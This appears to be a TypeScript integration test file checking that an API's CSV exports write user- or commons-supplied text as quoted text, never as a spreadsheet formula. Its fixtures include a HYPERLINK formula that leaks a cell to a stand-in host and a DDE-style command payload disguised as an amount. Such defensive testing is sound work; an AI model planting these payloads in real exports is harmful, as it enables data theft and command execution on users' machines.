// Every CSV export, through the real API against DynamoDB Local: text that people (or the commons'
// authors) wrote reaches a spreadsheet as text, never as a formula, and amounts stay numbers.
import { describe, expect, it } from 'vitest';
import type { Commons } from '#domain/content/commons.ts';
import { apiOnFreshTable } from '../support/api-client.ts';
import { parseStrictCsv } from '../support/csv.ts';
import { body, innovationSteps, innovationWorld } from '../support/innovation-world.ts';
import { commons } from '../support/services.ts';
import { draftInput } from '../unit/innovations/fixtures.ts';

const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the report")';
// A leading minus and a digit passed the old writer's guard as if it were an amount.
const pseudoAmount = "-2+3+cmd|' /C calc'!A0";

/** The cells of the column named `name`, below the header. */
function column(csv: unknown, name: string): string[] {
  const [header = [], ...rows] = parseStrictCsv(String(csv));
  const index = header.indexOf(name);
  expect(index, `a column ${name}`).toBeGreaterThanOrEqual(0);
  return rows.map((row) => row[index] ?? '');
}

describe('CSV exports', () => {
  it.each([hostile, pseudoAmount])(
    'write a record titled %s as text in the personal and syndicate statements',
    async (title) => {
      const world = await innovationWorld({ now: new Date('2026-11-21T12:00:00.000Z') });
      const steps = innovationSteps(
        () => world.call,
        (inventors) => ({ ...draftInput(inventors), title }),
      );
      const { id, reportId } = await steps.adoptedAndReported(1000);
      const decided = await world.call('PUT', `/api/innovations/${id}/reports/${reportId}/decision`, 'ana', {
        decision: 'confirm',
      });
      expect(body(decided).report.status).toBe('settled');

      const mine = await world.call('GET', '/api/me/statement?format=csv', 'ana');
      expect(mine.status).toBe(200);
      expect(column(mine.body, 'title')).toEqual([`'${title}`]);
      expect(column(mine.body, 'amount_bound')).toEqual(['3.50']);

      const mill = await world.call('GET', '/api/syndicates/mill/statement?format=csv', null);
      expect(mill.status).toBe(200);
      expect(column(mill.body, 'title')).toEqual([`'${title}`, `'${title}`]);
      // The syndicate paid each inventor: negative amounts are numbers, written bare.
      expect(column(mill.body, 'amount_minor')).toEqual(['-350', '-150']);
      expect(column(mill.body, 'amount_bound')).toEqual(['-3.50', '-1.50']);
    },
  );

  it('writes a skill label from the commons that is a formula as text in the shortages CSV', async () => {
    const [first] = commons.skills.values();
    if (!first) throw new Error('the commons has skills');
    const skills = new Map(commons.skills);
    skills.set(first.id, { ...first, label: hostile });
    const { call } = await apiOnFreshTable({ commons: { ...commons, skills } satisfies Commons });
    const response = await call('GET', '/api/shortages?format=csv', null);
    expect(response.status).toBe(200);
    const labels = column(response.body, 'label');
    expect(labels).toContain(`'${hostile}`);
    expect(labels.filter((label) => /^[=+\-@\t\r＝＋－＠]/.test(label))).toEqual([]);
  });
});
